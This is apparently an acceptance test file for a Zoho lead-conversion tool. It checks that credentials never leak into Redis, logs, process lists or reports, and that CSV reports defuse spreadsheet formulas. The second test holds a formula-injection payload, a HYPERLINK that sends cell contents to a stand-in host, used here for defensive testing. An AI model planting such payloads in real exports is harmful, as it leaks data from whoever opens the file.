"""After a full run with faults, no secret is anywhere but where it must be."""

from __future__ import annotations

import base64
import csv
import io
import re
import signal
import sys
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from pathlib import Path
from typing import Any

import psutil
import pytest
import redis
from celery import Celery

from massconvert.contract import QUEUE, TASK_CONVERT
from tests.acceptance.house import OPTIONS, House, until

pytestmark = pytest.mark.acceptance

#: Long and unlike anything else, so that a part of one would be found as well.
SECRETS = {
    "ZOHO_CLIENT_SECRET": "c1ientSecretPaddedWithDigits0123456789",
    "ZOHO_REFRESH_TOKEN": "1000.refreshTokenPaddedWithDigits9876543210",
}
#: What the simulator's access tokens look like.
ACCESS = re.compile(rb"1000\.simulated[0-9a-f]{32}")
BASE64 = re.compile(rb"[A-Za-z0-9+/]{24,}={0,2}")
POST, STATUS, READ, TOKEN = "POST mass_convert", "GET mass_convert", "GET Leads", "POST token"


def layers(text: bytes) -> Iterator[bytes]:
    """The text, and whatever in it is base64 (as bodies of messages are), decoded."""
    yield text
    for piece in BASE64.findall(text):
        with suppress(ValueError):  # a long word, and not base64
            yield base64.b64decode(piece + b"=" * (-len(piece) % 4))


def assert_no_secret(text: bytes, where: str, *, access: bool = False) -> None:
    """Neither a secret, nor (unless ``access``) an access token, is in ``text``."""
    for layer in layers(text):
        for name, secret in SECRETS.items():
            assert secret.encode() not in layer, f"{name} is in {where}"
        assert access or not ACCESS.search(layer), f"an access token is in {where}"


def values_of(client: Any) -> Iterator[tuple[str, bytes]]:
    """Every key of a database and all that it holds."""
    read: dict[bytes, Callable[[bytes], Any]] = {
        b"string": client.get,
        b"list": lambda key: client.lrange(key, 0, -1),
        b"set": client.smembers,
        b"hash": client.hgetall,
        b"zset": lambda key: client.zrange(key, 0, -1, withscores=True),
    }
    for key in client.scan_iter(count=1000):
        yield key.decode(), repr(read[client.type(key)](key)).encode()


def commands_of(file: Path) -> Iterator[Sequence[bytes]]:
    """The commands of an append-only file, each as its words."""
    data, place = file.read_bytes(), 0

    def line() -> bytes:
        nonlocal place
        end = data.index(b"\r\n", place)
        found, place = data[place:end], end + 2
        return found

    while place < len(data):
        words = []
        for _ in range(int(line()[1:])):
            size = int(line()[1:])
            words.append(data[place : place + size])
            place += size + 2
        yield words


def full_run(house: House) -> list[bytes]:
    """Everything that goes wrong in one run; what the commands printed."""
    leads = house.leads()
    house.set_faults(
        {"method": TOKEN, "do": "status", "status": 400, "body": '{"error": "server_error"}', "times": 1},
        *({"method": method, "do": "expire_tokens", "times": 1} for method in (POST, STATUS)),
        {"method": POST, "do": "status", "status": 500, "when": "after", "times": 1, "skip": 2},
        {"method": POST, "do": "reset", "times": 1, "skip": 3},
        {"method": POST, "do": "status", "status": 403, "times": 1, "skip": 5},
        {"method": STATUS, "do": "garbage", "times": 1},
        {"method": READ, "do": "drop", "times": 1},
        {"method": POST, "do": "job_partial", "leads": 2, "times": 2},
    )
    printed: list[bytes] = []

    def command(*arguments: str) -> None:
        done = house.command(*arguments)
        printed.append((done.stdout + done.stderr).encode())

    mc = house.producer()
    batch = mc.enqueue([*leads, "3652397000990000001"], options=OPTIONS, key="k")
    until(lambda: "The organisation is paused" in house.log("first"), 40, "the pause")
    command("status")
    command("resume")
    with Celery(broker=house.broker.url) as app:
        app.send_task(TASK_CONVERT, [{"no": "chunk"}], queue=QUEUE)
    house.worker("second")
    batch.wait(60)
    assert house.unfired() == []
    for arguments in (
        ["status"],
        ["status", "k"],
        ["report", "k"],
        ["status", "--json"],
        ["enqueue", "--no-deal", "no-id"],
    ):
        command(*arguments)
    for form in ("csv", "jsonl", "table"):
        command("report", "k", "--format", form, "--output", f"report.{form}")
    return printed


@pytest.mark.slow
def test_no_secret_is_left_anywhere_by_a_full_run_with_faults(house: House) -> None:
    """Redis, its append-only file and messages, logs at their most talkative, process lists, commands, reports."""
    house.environment |= {
        "MASSCONVERT_LOG_LEVEL": "DEBUG",
        "MASSCONVERT_JOB_WAIT": "1",
        "MASSCONVERT_CALL_DEADLINE": "2",
        "MASSCONVERT_SWEEP_INTERVAL": "1",
        "MASSCONVERT_STATE_DIR": str(house.folder / "state"),
    }
    house.redis()
    house.simulator("--leads", "400", "--job-seconds", "0.3", "--unknown", "1")
    house.environment |= SECRETS
    house.worker("first", "-l", "DEBUG")
    house.run(sys.executable, "-m", "celery", "-A", "workers", "beat", name="beat")
    printed = full_run(house)

    for ours in house.processes:
        assert ours.poll() is None
        assert_no_secret(" ".join(psutil.Process(ours.pid).cmdline()).encode(), "the process list")
    for text in printed:
        assert_no_secret(text, "what a command printed")

    holders = set()
    for database in (0, 1):
        with redis.Redis(port=house.port, db=database) as client:
            for key, value in values_of(client):
                assert_no_secret(key.encode() + value, key, access=True)
                if any(ACCESS.search(layer) for layer in layers(value)):
                    holders.add(key)
                    assert 0 < client.ttl(key) <= 3600
    assert len(holders) == 1
    (token_key,) = holders
    assert re.fullmatch(r"mc:\{default\}:token:[0-9a-f]{12}", token_key)

    for process in reversed(house.processes):  # Redis last
        house.kill(process, signal.SIGTERM)
    files = [path for path in house.folder.rglob("*") if path.is_file()]
    assert {path.suffix for path in files} >= {".aof", ".log", ".csv", ".jsonl", ".table"}
    for path in files:
        if path.suffix == ".aof":
            for words in commands_of(path):
                # The token is written under its key only; that it failed is told by naming it to a script.
                its_own = words[0].upper() in (b"HSET", b"HMSET") and words[1] == token_key.encode()
                assert_no_secret(b" ".join(words), f"the append-only file: {words[:2]!r}", access=its_own)
        else:
            assert_no_secret(path.read_bytes(), path.name)


FORMULA = '=HYPERLINK("http://example.net/"&A1,"click")'


def test_a_report_is_safe_to_open_in_a_spreadsheet_whatever_zoho_says(house: House) -> None:
    house.redis()
    house.simulator("--leads", "50", "--job-seconds", "0.1")
    house.set_faults(
        {"method": POST, "do": "status", "status": 400, "code": "@SUM(1+1)", "message": FORMULA, "details": {}}
    )
    house.worker()
    batch = house.producer().enqueue([*house.leads(), "3652397000990000001"], options=OPTIONS, key="k")
    assert batch.wait(30).failed == 51
    done = house.command("report", "k", "--format", "csv", "--output", "report.csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO((house.folder / "report.csv").read_text())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n")]
